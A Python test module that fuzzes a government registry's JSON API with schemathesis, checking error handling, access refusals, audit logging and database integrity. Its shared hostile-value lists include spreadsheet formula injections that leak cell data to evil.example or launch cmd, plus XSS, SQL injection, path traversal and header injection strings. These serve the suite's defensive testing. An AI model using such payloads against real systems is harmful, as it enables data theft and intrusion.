"""Fuzzing every operation of the JSON API with schemathesis (issue #6).

Every operation of /api/v1/openapi.json gets generated requests, valid and
invalid for the document (schemathesis' positive and negative modes), sent as
anonymous, with a made-up token, or with the personal API token of the
agency's focal point, of another agency's focal point, of an auditor or of an
administrator. Paths are either generated or one of the agencies and periods
of a small registry with a submission in every state; a write often carries the
version the submission is really at, and a save often carries real report
fields and service codes with hostile values, so that writes get past
401/403/409 and reach validation.

Each request must answer without a 5xx, with a status, content type and body
the document describes; a refused write (4xx) and every read leave the database
as it was; every 401/403 is recorded in the audit log; and a save can never set
the state. The registry is brought back to its starting point before every
generated request that follows a write, so that a failure replays from its
minimal example.

The hostile values and the database snapshot defined here serve the other fuzz
suites (tests/test_fuzz_forms.py, tests/test_fuzz_import.py) too.
FUZZ_EXAMPLES (default 25) sets how many examples each fuzz test runs; FUZZ_RANDOM=1 draws
new ones on every run instead of the same ones.
"""

import os

import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from schemathesis.checks import not_a_server_error
from schemathesis.generation import GenerationMode
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    negative_data_rejection,
    response_schema_conformance,
    status_code_conformance,
)
from sqlalchemy import delete, func, select
from sqlmodel import Session, SQLModel

from registry.accounts.tokens import create_api_token
from registry.api.openapi import DOCUMENT
from registry.models import (
    REPORT_FIELDS,
    AttemptCounter,
    AuditEvent,
    ReportingPeriod,
    ServiceStatus,
    Submission,
    SubmissionChange,
    User,
    VerifiedCopy,
    VerifiedServiceStatus,
)
from registry.submissions import periods, workflow
from registry.web.db import get_engine
from tests.factories import FULL_REPORT, TEST_ACTOR

# --- shared by the fuzz suites ---------------------------------------------------------------------

EXAMPLES = int(os.environ.get("FUZZ_EXAMPLES", "25"))
# No deadline (the machine is shared); the same examples on every run so that CI is not flaky,
# unless FUZZ_RANDOM=1 asks for new ones; the first bug found is shrunk and reported, not every
# one (shrinking files is slow).
FUZZ_SETTINGS = settings(max_examples=EXAMPLES, deadline=None, database=None,
                         derandomize=os.environ.get("FUZZ_RANDOM") != "1",
                         report_multiple_bugs=False, suppress_health_check=list(HealthCheck))

FORMULAS = ['=1+1', '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1", '=IMPORTXML("http://evil.example","//a")']
NUMBER_LIKE = ["NaN", "nan", "inf", "-inf", "Infinity", "1e309", "1e3", "-1", "-0", "+5", "0x10", "1_000", "1,5",
               "1.5", "12.0", "99999999999999999999999", "9" * 5000, "١٢٣", "²", "７", " 7 ", "7\x00", ""]
VIETNAMESE = ["Đăng ký khai sinh", "Sở Thông tin và Truyền thông", "UBND huyện Mường Nhé",
              "Tiếng Việt", "Tie\u0302\u0301ng Vie\u0323\u0302t",  # the same, decomposed (NFD)
              "ĐĂNG KÝ KẾT HÔN", "có", "không", "Không", "ừ"]
CONTROLS = ["\x00", "a\x00b", "\x1b[31mđỏ\x1b[0m", "\u202etxt.exe", "\ufeffBOM", "a\u2028b", "\x7f", "\r\n", "\t"]
INJECTIONS = ["<script>alert(1)</script>", "' OR 1=1 --", "{{7*7}}", "%(x)s", "%s%s%s", "../../etc/passwd",
              "javascript:alert(1)", "https://evil.example/\r\nSet-Cookie: x=1"]

hostile_text = st.one_of(
    st.sampled_from(FORMULAS + NUMBER_LIKE + VIETNAMESE + CONTROLS + INJECTIONS),
    st.text(max_size=40),  # any code point hypothesis likes, control characters included
    st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Zs", "Mn"]), max_size=12),
    st.builds(lambda unit, n: unit * n, st.sampled_from(["a", "đ", "9", " ", "\x00", "ệ\u0301"]),
              st.integers(min_value=200, max_value=5000)),  # longer than any field allows
)
huge_numbers = st.one_of(st.integers(), st.sampled_from([10_000_000, 10_000_001, 2**31, 2**63, -2**63, 2**64, 10**30,
                                                          -1, 0]))
json_scalars = st.one_of(st.none(), st.booleans(), huge_numbers, hostile_text,
                         # JSON has no NaN or infinity (a client cannot send them; "NaN" and
                         # "inf" as text are among NUMBER_LIKE)
                         st.floats(allow_nan=False, allow_infinity=False), st.sampled_from([1e300, 0.5, 3.0, -0.0]))


def often(data, label: str) -> bool:
    """Three times in four: steer generation towards the interesting path, but not always."""
    return data.draw(st.sampled_from([True, True, True, False]), label=label)


# Refusals and failed sign-ins are logged by design; everything else in the audit log is a change.
LOGGED_REFUSALS = ("access.denied", "login.failed", "login.throttled")
# Sign-in bookkeeping and derived caches, which a request may touch without changing any entry.
VOLATILE_TABLES = {"login_session", "target_cache", "generation", "attempt_counter"}
VOLATILE_COLUMNS = {("api_token", "last_used_at")}
Snapshot = dict[str, dict[tuple, dict]]


def database_snapshot(session: Session, everything: bool = False) -> Snapshot:
    """Every row of every table by primary key, as the session sees it (its flushed writes
    included); unless ``everything``, without bookkeeping, caches and the audit events of refusals."""
    snapshot = {}
    for table in SQLModel.metadata.sorted_tables:
        if table.name in VOLATILE_TABLES and not everything:
            continue
        columns = [c for c in table.columns if everything or (table.name, c.name) not in VOLATILE_COLUMNS]
        query = select(*columns).order_by(*table.primary_key.columns)
        if table.name == AuditEvent.__tablename__ and not everything:
            query = query.where(table.c.action.not_in(LOGGED_REFUSALS))
        keys = [c.name for c in table.primary_key.columns]
        rows = (row._asdict() for row in session.execute(query))
        snapshot[table.name] = {tuple(row[k] for k in keys): row for row in rows}
    return snapshot


def changes_between(before: Snapshot, after: Snapshot) -> set[str]:
    """``table.column`` for each changed column of a kept row, ``table+`` and ``table-`` for added
    and removed rows."""
    found = set()
    for table, rows in after.items():
        old = before[table]
        found |= {f"{table}+" for key in rows if key not in old}
        found |= {f"{table}-" for key in old if key not in rows}
        for key in rows.keys() & old.keys():
            found |= {f"{table}.{column}" for column, value in rows[key].items() if old[key][column] != value}
    return found


def refusals_logged(session: Session) -> int:
    """Refusals in the audit log, and anonymous ones counted per address and minute (issue 16)."""
    logged = session.execute(select(func.count()).select_from(AuditEvent)
                             .where(AuditEvent.action == "access.denied")).scalar_one()
    counted = session.execute(select(func.coalesce(func.sum(AttemptCounter.count), 0))
                              .where(AttemptCounter.key.startswith("refused:"))).scalar_one()
    return logged + counted


# --- the registry the requests meet ------------------------------------------------------------------

OPEN, CLOSED = 2015, 2014
# agency code → the state of its submission for the open period (None: no submission yet)
STATES = {"so-tp": "draft", "so-yt": "submitted", "so-gd": "verified", "so-xd": "returned", "so-kh": None}
# (agency, year) pairs a request is pointed at instead of its generated path
KNOWN_PATHS = [*((code, OPEN) for code in STATES), ("so-gd", CLOSED), ("so-tp", 2013)]
ROLES = ("own_focal", "other_focal", "auditor", "admin", "anonymous", "bad_token")
REVIEW_ACTIONS = ("verify", "return", "reopen")
CHANGED_TABLES = (VerifiedServiceStatus, VerifiedCopy, ServiceStatus, SubmissionChange, Submission, AuditEvent,
                  ReportingPeriod)


class Registry:
    """Agencies, services, users and tokens made once; submissions rebuilt after every write."""

    def __init__(self, app, make_agency, make_service, password_hash: str = "-"):
        self.app = app
        self.agencies = {code: make_agency(code=code, name=f"Sở {code}") for code in STATES}
        self.services = {code: [make_service(agency, code=f"{code}.{n}") for n in (1, 2)]
                         for code, agency in self.agencies.items()}
        # API callers never sign in with a password: by default the accounts skip the (slow) hashing
        users = {code: User(email=f"focal@{code}.example", password_hash=password_hash, role="focal",
                            agency_id=agency.id) for code, agency in self.agencies.items()}
        users |= {role: User(email=f"{role}@dic.example", password_hash=password_hash, role=role)
                  for role in ("auditor", "admin")}
        self.emails = {key: user.email for key, user in users.items()}
        with Session(self.engine) as session:
            session.add_all(users.values())
            session.flush()
            self.user_ids = {key: user.id for key, user in users.items()}
            tokens = {key: create_api_token(session, TEST_ACTOR, user, "fuzz") for key, user in users.items()}
            self.tokens = {key: secret for key, (_token, secret) in tokens.items()}
            self.token_ids = {key: token.id for key, (token, _secret) in tokens.items()}
            session.commit()
        self.dirty = True

    @property
    def engine(self):
        with self.app.app_context():
            return get_engine()

    def rebuild(self) -> None:
        """Bring the submissions back to their starting states, if a request changed them."""
        if not self.dirty:
            return
        with Session(self.engine) as session:
            for model in CHANGED_TABLES:
                session.execute(delete(model))
            for code, state in STATES.items():
                if state is not None:
                    self._file(session, code, OPEN, state)
            self._file(session, "so-gd", CLOSED, "verified")
            session.get(ReportingPeriod, CLOSED).status = "closed"
            periods.ensure_period(session, OPEN, TEST_ACTOR)
            session.commit()
        self.dirty = False

    def _file(self, session: Session, code: str, year: int, state: str) -> None:
        agency = self.agencies[code]
        first = self.services[code][0]
        submission = workflow.ensure_submission(session, agency, year, TEST_ACTOR)
        workflow.write_entries(session, submission, TEST_ACTOR, report=FULL_REPORT, services={
            first.id: {"level": 1, "info_url": f"https://dvc.example/{first.code}"}})
        if state != "draft":
            workflow.submit(session, submission, TEST_ACTOR)
        if state == "verified":
            workflow.verify(session, submission, TEST_ACTOR)
        elif state == "returned":
            workflow.return_(session, submission, TEST_ACTOR, "Thiếu minh chứng")

    def headers(self, role: str, agency_code) -> dict:
        if role == "anonymous":
            return {}
        if role == "bad_token":
            return {"Authorization": "Bearer slr_not-a-token"}
        if role == "own_focal":
            key = agency_code if agency_code in self.agencies else "so-tp"
        elif role == "other_focal":
            key = "so-kh" if agency_code != "so-kh" else "so-tp"
        else:
            key = role
        return {"Authorization": f"Bearer {self.tokens[key]}"}

    def submission(self, code, year) -> Submission | None:
        agency = self.agencies.get(code)
        if agency is None or not isinstance(year, int) or not 2000 <= year <= 2100:
            return None
        with Session(self.engine) as session:
            return workflow.find_submission(session, agency, year)

    def service_codes(self, code) -> list[str]:
        return [s.code for s in self.services.get(code, [])]


@pytest.fixture
def registry(app, make_agency, make_service):
    return Registry(app, make_agency, make_service)


# --- the requests ---------------------------------------------------------------------------------

OPERATIONS = [(method.upper(), path) for path, item in DOCUMENT["paths"].items() for method in item]
CHECKS = [not_a_server_error, status_code_conformance, content_type_conformance, response_schema_conformance]
# a request the document calls invalid must be refused (only judged on requests sent as generated)
STRICT_CHECKS = [*CHECKS, negative_data_rejection]

urls = st.one_of(st.none(), hostile_text, st.sampled_from([
    "https://dvc.example/a", "http://dvc.example", "https://", "ftp://dvc.example/a", "//dvc.example/a",
    "https://dvc.example/" + "a" * 3000, "https://dvc.example/đăng-ký", " https://dvc.example/a ",
    "https://dvc.example/a b", "http://[::1", "https://dvc.example:99999/"]))


def service_edits(codes: list[str]):
    return st.lists(st.fixed_dictionaries(
        {"code": st.one_of(st.sampled_from(codes or ["none"]), hostile_text)},
        optional={"level": st.one_of(st.integers(min_value=0, max_value=1), st.integers(min_value=-1, max_value=5),
                                     json_scalars),
                  "info_url": urls, "form_url": urls, "submission_url": urls, "note": json_scalars,
                  "state": st.just("verified")}), max_size=3)


# real fields with plausible values, and now and then an unknown field or a hostile value
report_edits = st.dictionaries(
    st.one_of(st.sampled_from(REPORT_FIELDS), st.sampled_from(REPORT_FIELDS), hostile_text),
    st.one_of(st.booleans(), st.integers(min_value=0, max_value=50), st.sampled_from(["có", "0", "12", None]),
              json_scalars), max_size=6)


def aim(case, data, registry: Registry) -> bool:
    """Point a generated request at the registry: a known agency and period or the generated
    path; the version really read; real fields with hostile values; one kind of caller.

    Returns whether the request is still as generated, apart from credentials on a public
    operation: only then does schemathesis know which part of a negative case is invalid.
    """
    as_generated = True
    path = case.path_parameters
    if "year" in path and often(data, "known path"):
        code, year = data.draw(st.sampled_from(KNOWN_PATHS), label="known path")
        case.path_parameters = path = {**path, "code": code, "year": year}
        as_generated = False
    elif "code" in path and often(data, "known agency"):
        case.path_parameters = path = {**path, "code": data.draw(st.sampled_from(list(STATES)), label="agency")}
        as_generated = False
    if "year" in path and isinstance(case.body, dict):
        body = dict(case.body)
        if case.method.upper() == "PUT" and often(data, "real fields"):
            body["report"] = data.draw(report_edits, label="report")
            body["services"] = data.draw(service_edits(registry.service_codes(path["code"])), label="services")
        if "version" in body and often(data, "version read"):
            current = registry.submission(path["code"], path["year"])
            body["version"] = current.version if current else 0
        as_generated = as_generated and body == case.body
        case.body = body
    if any(isinstance(value, dict) for value in (case.query or {}).values()):
        # an object has no form of its own in a query string (OpenAPI's form style spreads its
        # keys: {} sends nothing, {"q": "x"} sends q=x), so what is sent may be a valid request
        as_generated = False
    right_caller = "auditor" if case.path.rsplit("/", 1)[-1] in REVIEW_ACTIONS else "own_focal"
    role = right_caller if often(data, "right caller") else data.draw(st.sampled_from(ROLES), label="caller")
    headers = {k: v for k, v in (case.headers or {}).items() if k.lower() != "authorization"}
    if role == "anonymous" and data.draw(st.booleans(), label="keep generated credentials"):
        headers = dict(case.headers or {})
    elif case.operation.definition.raw.get("security"):
        as_generated = False
    case.headers = {**headers, **registry.headers(role, path.get("code"))}
    return as_generated


def test_the_fuzzed_operations_are_those_the_app_serves(client):
    served = client.get("/api/v1/openapi.json").get_json()
    assert sorted(OPERATIONS) == sorted((m.upper(), p) for p, item in served["paths"].items() for m in item)
    assert {method for method, _ in OPERATIONS} == {"GET", "PUT", "POST"}


@pytest.mark.parametrize("method, path", OPERATIONS, ids=[f"{m} {p}" for m, p in OPERATIONS])
def test_every_operation(app, registry, db, method, path):
    # schemathesis.pytest.from_fixture would also give each operation its own app, but on
    # pytest 9 it fails (it sets Node._nodeid), so the operations are parametrized here.
    operation = schemathesis.openapi.from_wsgi("/api/v1/openapi.json", app)[path][method]
    cases = st.one_of(*(operation.as_strategy(generation_mode=mode) for mode in GenerationMode))

    @FUZZ_SETTINGS
    @given(case=cases, data=st.data())
    def one_request(case, data):
        registry.rebuild()
        as_generated = aim(case, data, registry)
        code, year = case.path_parameters.get("code"), case.path_parameters.get("year")
        before_state = getattr(registry.submission(code, year), "state", "draft")
        db.rollback()
        before, refusals = database_snapshot(db), refusals_logged(db)
        registry.dirty = True  # until the answer says nothing was written
        response = case.call()
        case.validate_response(response, checks=STRICT_CHECKS if as_generated else CHECKS)
        status = response.status_code
        db.rollback()
        registry.dirty = method != "GET" and status < 400
        if not registry.dirty:
            assert database_snapshot(db) == before, f"{method} {case.formatted_path} answered {status} but wrote"
        if status in (401, 403):
            assert refusals_logged(db) > refusals, "every refusal is recorded: logged, or counted when anonymous"
        if method == "PUT" and status == 200:
            saved = response.json()
            assert (saved["agency"], saved["period"], saved["state"]) == (code, year, before_state)

    one_request()


# Bodies the server cannot read as a JSON object: each must be refused with a 4xx, never ignored.
# VERSION stands for the version the submission is at, so that only the malformation is at fault.
UNREADABLE_BODIES = {
    "a version with more digits than Python converts": b'{"version": ' + b"9" * 5000 + b"}",
    "a report count with 5000 digits": b'{"version": VERSION, "report": {"staff_total": ' + b"9" * 5000 + b"}}",
    "arrays nested 5000 deep": b"[" * 5000 + b"]" * 5000,
    "objects nested 5000 deep": b'{"a":' * 5000 + b"1" + b"}" * 5000,
    "latin-1, not UTF-8": '{"version": VERSION, "comment": "Sài", "reason": "Sài"}'.encode("latin-1"),
    "a trailing NUL": b'{"version": VERSION, "comment": "x", "reason": "x"}\x00',
    "NUL bytes": b"\x00" * 100,
    "form encoding": b"version=VERSION&comment=x&reason=x",
}
# Bodies that parse, with values a client should not send: any answer but a 5xx, and a refusal changes nothing.
ODD_BODIES = {
    "lone surrogates": rb'{"version": VERSION, "comment": "\ud800", "reason": "\udfff", "services": '
                       rb'[{"code": "so-tp.2", "note": "\udbff"}], "report": {"staff_total": 1}}',
    "NUL characters": rb'{"version": VERSION, "comment": "a\u0000b", "reason": "\u0000", "services": '
                      rb'[{"code": "so-tp.2", "note": "\u0000"}]}',
    "1e400": b'{"version": 1e400}',
    "NaN": b'{"version": NaN, "report": {"staff_total": NaN}}',
    "-Infinity": b'{"version": -Infinity}',
    "UTF-16 with a BOM": '{"version": VERSION, "comment": "Trả lại", "reason": "Sửa"}'.encode("utf-16"),
    "a duplicated key": b'{"version": VERSION, "version": 0, "comment": "x", "reason": "x"}',
}


def _send(client, registry: Registry, action: str, code: str, raw: bytes):
    version = registry.submission(code, OPEN).version
    body = raw.replace(b"VERSION", str(version).encode()).replace(
        "VERSION".encode("utf-16-le"), str(version).encode("utf-16-le"))
    caller = "auditor" if action.lstrip("/") in REVIEW_ACTIONS else "own_focal"
    return client.open(f"/api/v1/agencies/{code}/submissions/{OPEN}{action}", data=body,
                       method="POST" if action else "PUT",
                       headers={**registry.headers(caller, code), "Content-Type": "application/json"})


# Each action is aimed where it would succeed with a well-formed body, so that a malformed one
# that is silently ignored shows up as a change.
@pytest.mark.parametrize("action, code", [("", "so-tp"), ("/submit", "so-tp"), ("/verify", "so-yt"),
                                          ("/return", "so-yt"), ("/reopen", "so-gd")])
def test_raw_bodies_never_give_a_5xx_and_unreadable_ones_are_refused(client, db, registry, action, code):
    problems = []
    for name, raw in {**UNREADABLE_BODIES, **ODD_BODIES}.items():
        registry.dirty = True
        registry.rebuild()
        db.rollback()
        before = database_snapshot(db)
        try:
            response = _send(client, registry, action, code, raw)
        except Exception as exc:  # the test client re-raises what the app did not handle: a 500
            problems.append(f"{name}: {type(exc).__name__}: {str(exc)[:100]}")
            continue
        status = response.status_code
        if status >= 500 or (name in UNREADABLE_BODIES and status < 400):
            problems.append(f"{name}: answered {status} {response.get_data(as_text=True)[:80]}")
        elif status >= 400 and not (response.get_json(silent=True) or {}).get("error", {}).get("message"):
            problems.append(f"{name}: {status} without an error message")
        db.rollback()
        if status >= 400 and database_snapshot(db) != before:
            problems.append(f"{name}: refused with {status}, but the database changed")
    assert not problems, "\n".join(problems)
